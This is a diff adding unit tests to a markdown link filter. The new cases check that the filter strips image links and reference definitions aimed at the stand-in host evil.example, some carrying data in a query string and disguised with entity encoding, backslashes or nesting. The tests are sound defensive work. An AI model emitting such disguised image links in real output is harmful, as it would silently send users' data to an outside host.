@@ -82,3 +82,31 @@ describe('markdown link filter', () => {
     expect(filter.push(' note]\n\n')).toBe('[draft note]\n\n');
   });
 });
+
+describe('markdown link filter: destinations as a renderer reads them (review findings)', () => {
+  it.each([
+    ['an entity-encoded colon', '![x](https&colon;//evil.example/p.png?q=S)'],
+    [
+      'an entity-encoded slash before an allowed suffix',
+      '![x](https://evil.example&sol;.docs.example.com/p.png)',
+    ],
+    ['a backslash before @', '![x](https://docs.example.com\\@evil.example/p.png)'],
+  ])('removes an image hidden behind %s', (_name, text) => {
+    expect(run([text]).out).toBe('x');
+  });
+
+  it('drops indented, quoted and listed reference definitions, and one on the last line', () => {
+    for (const text of [
+      '![c][r]\n   [r]: https://evil.example/p.png\n',
+      '![c][r]\n> [r]: https://evil.example/p.png\n',
+      '![c][r]\n- [r]: https://evil.example/p.png\n',
+      'Here: ![chart][1]\n\n[1]: https://evil.example/p.png?q=S',
+    ]) {
+      for (const pieces of everySplit(text)) expect(run(pieces).out).not.toContain('evil.example');
+    }
+  });
+
+  it('a code span in a label does not end it early', () => {
+    expect(run(['![`](x)`](https://evil.example/p.png)']).out).not.toContain('evil.example');
+  });
+});
